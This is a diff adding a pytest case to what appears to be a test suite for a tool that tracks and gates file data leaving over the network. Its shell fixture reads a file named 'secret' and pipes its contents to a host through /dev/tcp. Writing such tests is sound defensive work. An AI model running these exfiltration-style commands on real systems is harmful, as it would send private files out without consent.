@@ -137,6 +137,30 @@ def test_answer_for_a_process_holds_for_its_connections(case, outcome):
     assert all(word in outcome.received for word in (b"one", b"two", b"three")), outcome.describe()
 
 
+# A file's own answer does not let out what the same shell reads later; each has connections of its own, and one in common.
+TWO_FILES = """
+cp secret second; agent label second
+agent=$(agent serve allow /run/agent.log file)
+exec 5> /dev/tcp/10.77.0.2/9
+x=$(tr '\\n' ' ' < secret)
+echo "one $x" >&5
+echo "two $x" > /dev/tcp/10.77.0.2/9
+x=$(tr '\\n' ' ' < second)
+echo "three $x" >&5
+echo "four $x" > /dev/tcp/10.77.0.2/9
+x=$(tr '\\n' ' ' < secret)
+echo "five $x" > /dev/tcp/10.77.0.2/9
+kill $agent
+"""
+
+
+@pytest.mark.parametrize("case", [Case("file-scope", TWO_FILES, "none")], ids=str)
+def test_answer_for_a_file_holds_for_it_alone(case, outcome):
+    origins = [word for line in outcome.questions for word in line.split() if word.startswith("origin=")]
+    assert origins == ["origin=/mnt/case/secret", "origin=/mnt/case/second"], outcome.describe()
+    assert all(word in outcome.received for word in (b"one", b"two", b"three", b"four", b"five")), outcome.describe()
+
+
 @pytest.mark.parametrize("case", [thrice("flushed", "allow", "process",
                                          'agent flush; echo "four $x" > /dev/tcp/10.77.0.2/9')], ids=str)
 def test_flush_asks_again(case, outcome):
